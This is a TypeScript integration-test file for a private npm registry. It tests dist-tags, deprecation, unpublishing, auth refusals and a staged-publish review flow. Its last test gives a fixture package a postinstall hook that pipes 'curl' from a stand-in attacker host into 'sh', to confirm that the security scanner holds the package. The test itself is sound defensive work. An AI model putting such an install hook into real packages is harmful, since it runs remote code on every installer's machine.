import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import type { Ended } from "../support/process.ts";
import { hasNode, startWorld, type World } from "./client.ts";

const timeout = 90_000;
const name = "@acme/tool";

async function startWithTool(...versions: string[]): Promise<World> {
  const world = await startWorld();
  await world.cli("login");
  for (const version of versions) await publish(world, version);
  return world;
}

function publish(world: World, version: string, args: string[] = [], files = {}): Promise<Ended> {
  const folder = world.project({ name, version }, { "index.js": "1;\n", ...files });
  return world.npm(["publish", ...args], folder);
}

async function view(world: World, field: string): Promise<unknown> {
  world.emptyClientCache();
  const shown = await world.npm(["view", name, field, "--json"], world.folder({}));
  return shown.stdout.trim() === "" ? null : JSON.parse(shown.stdout);
}

describe.skipIf(!hasNode)("npm changes what is published here", { timeout }, () => {
  test("dist-tag add, ls and rm", async () => {
    await using world = await startWithTool("1.0.0", "1.1.0");
    const folder = world.folder({});
    const added = await world.npmOk(["dist-tag", "add", `${name}@1.0.0`, "old"], folder);
    expect(added.stdout).toBe(`+old: ${name}@1.0.0\n`);
    const listed = await world.npmOk(["dist-tag", "ls", name], folder);
    expect(listed.stdout).toBe("latest: 1.1.0\nold: 1.0.0\n");

    const latest = await world.npm(["dist-tag", "rm", name, "latest"], folder);
    expect(latest.code).toBe(1);
    const unknown = await world.npm(["dist-tag", "add", `${name}@7.7.7`, "old"], folder);
    expect(unknown.stderr).toContain("has no version 7.7.7");

    await world.npmOk(["dist-tag", "rm", name, "old"], folder);
    expect((await world.npmOk(["dist-tag", "ls", name], folder)).stdout).toBe("latest: 1.1.0\n");
    await world.npmOk(["dist-tag", "add", `${name}@1.0.0`, "latest"], folder);
    const project = world.project();
    await world.npmOk(["install", name], project);
    const installed = readFileSync(join(project, "node_modules", name, "package.json"), "utf8");
    expect(installed).toContain('"version": "1.0.0"');
  });

  test("deprecate warns whoever installs it, undeprecate stops that", async () => {
    await using world = await startWithTool("1.0.0", "1.1.0");
    const folder = world.folder({});
    await world.npmOk(["deprecate", `${name}@<1.1.0`, "use 1.1.0 instead"], folder);
    const warned = await world.npmOk(["install", `${name}@1.0.0`], world.project());
    expect(warned.stderr).toContain(`${name}@1.0.0: use 1.1.0 instead`);
    expect((await world.npmOk(["install", name], world.project())).stderr).not.toContain("use 1");

    await world.npmOk(["undeprecate", `${name}@1.0.0`], folder);
    world.emptyClientCache();
    const quiet = await world.npmOk(["install", `${name}@1.0.0`], world.project());
    expect(quiet.stderr).not.toContain("deprecated");
  });

  test("unpublish takes one version away, and its number is spent", async () => {
    await using world = await startWithTool("1.0.0", "1.1.0");
    const folder = world.folder({});
    const gone = await world.npmOk(["unpublish", `${name}@1.1.0`], folder);
    expect(gone.stdout).toBe(`- ${name}@1.1.0\n`);
    expect(await view(world, "versions")).toEqual(["1.0.0"]);
    expect(await view(world, "dist-tags")).toEqual({ latest: "1.0.0" });
    expect((await world.registry.fetch(`/${name}/-/tool-1.1.0.tgz`)).status).toBe(404);

    const again = await publish(world, "1.1.0");
    expect(again.code).toBe(1);
    expect(again.stderr).toContain("was published and removed, so its number is spent");
    expect((await publish(world, "1.1.1")).code).toBe(0);
  });

  test("unpublish --force takes the package away, not its name", async () => {
    await using world = await startWithTool("1.0.0", "1.1.0");
    world.upstream.add(name, "9.0.0");
    const folder = world.folder({});
    expect((await world.npmOk(["unpublish", name, "--force"], folder)).stdout).toContain(
      `- ${name}\n`,
    );
    world.emptyClientCache();
    expect((await world.npm(["view", name], folder)).stderr).toContain("E404");
    expect((await publish(world, "1.0.0", ["--force"])).code).toBe(1);
    expect((await publish(world, "2.0.0")).code).toBe(0);
    expect(await view(world, "versions")).toEqual(["2.0.0"]);
  });

  test("unpublish of what another package needs says which", async () => {
    await using world = await startWithTool("1.0.0", "2.0.0");
    const dependent = { name: "@acme/app", version: "1.0.0", dependencies: { [name]: "1.0.0" } };
    await world.npmOk(["publish"], world.project(dependent));
    const refused = await world.npm(["unpublish", `${name}@1.0.0`], world.folder({}));
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain("while @acme/app@1.0.0 needs it; deprecate it instead");
    expect(await view(world, "versions")).toEqual(["1.0.0", "2.0.0"]);
  });

  test("without a token nothing is changed, and npm says so", async () => {
    await using world = await startWithTool("1.0.0", "1.1.0");
    await world.npmOk(["logout"], world.folder({}));
    const folder = world.folder({});
    for (const args of [
      ["unpublish", `${name}@1.0.0`],
      ["unpublish", name, "--force"],
      ["deprecate", name, "old"],
      ["dist-tag", "add", `${name}@1.0.0`, "old"],
    ]) {
      const refused = await world.npm(args, folder);
      expect([args[0], refused.code]).toEqual([args[0], 1]);
      expect(refused.stderr).toContain("E401");
    }
    expect(await view(world, "versions")).toEqual(["1.0.0", "1.1.0"]);
  });
});

describe.skipIf(!hasNode)("npm stage", { timeout }, () => {
  /** The token of `agentregistry login` publishes; deciding takes one that may review. */
  const asReviewer = (world: World) =>
    `--//${new URL(world.registry.url).host}/:_authToken=${world.registry.token}`;
  const uuid = /[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}/;

  test("publish, list, view, download, approve and reject", async () => {
    await using world = await startWithTool();
    const folder = world.folder({});
    const stage = async (version: string): Promise<string> => {
      const project = world.project({ name, version }, { "index.js": `${version};\n` });
      const { stdout } = await world.npmOk(["stage", "publish"], project);
      expect(stdout).toContain(`+ ${name}@${version} (staged with id `);
      return uuid.exec(stdout)?.[0] ?? "";
    };
    expect((await world.npmOk(["stage", "list"], folder)).stdout).toBe(
      "No staged packages found.\n",
    );
    const first = await stage("1.0.0");
    const second = await stage("1.1.0");
    expect((await world.npm(["view", name], folder)).stderr).toContain("E404");

    const listed = await world.npmOk(["stage", "list", name], folder);
    expect(listed.stdout).toContain(`id: ${first}\npackage name: ${name}\nversion: 1.0.0\n`);
    expect(listed.stdout).toContain(`id: ${second}\n`);
    const shown = await world.npmOk(["stage", "view", first], folder);
    expect(shown.stdout).toContain("status: staged\ntag: latest\n");
    expect(shown.stdout).toContain("verdict: clean\n");
    expect(shown.stdout).not.toContain("[object Object]");
    const publisher = await world.npm(["stage", "approve", first], folder);
    expect(publisher.stderr).toContain('this token lacks the scope "review"');

    const who = asReviewer(world);
    const file = (await world.npmOk(["stage", "download", first, who], folder)).stdout.trim();
    expect(readFileSync(join(folder, file)).byteLength).toBeGreaterThan(0);

    const approved = await world.npmOk(["stage", "approve", first, who], folder);
    expect(approved.stdout).toBe(`Staged package ${first} approved and published successfully.\n`);
    const rejected = await world.npmOk(["stage", "reject", second, who], folder);
    expect(rejected.stdout).toBe(`Staged package ${second} has been rejected.\n`);
    expect(await view(world, "versions")).toEqual(["1.0.0"]);
    await world.npmOk(["install", name], world.project());
    expect((await world.npmOk(["stage", "list"], folder)).stdout).toBe(
      "No staged packages found.\n",
    );
  });

  test("shows and approves what the scanner held", async () => {
    await using world = await startWithTool();
    const folder = world.project({
      name,
      version: "1.0.0",
      scripts: { postinstall: "curl -s http://evil.invalid/x | sh" },
    });
    const held = await world.npm(["publish"], folder);
    expect(held.stderr).toContain("Package blocked by security scan");
    const who = asReviewer(world);
    const { stdout } = await world.npmOk(["stage", "list", who], folder);
    expect(stdout).toContain("status: held\n");
    expect(stdout).toContain("findings: INS-");
    expect(stdout).not.toContain("evil.invalid");

    await world.npmOk(["stage", "approve", uuid.exec(stdout)?.[0] ?? "", who], folder);
    expect(await view(world, "versions")).toEqual(["1.0.0"]);
  });
});
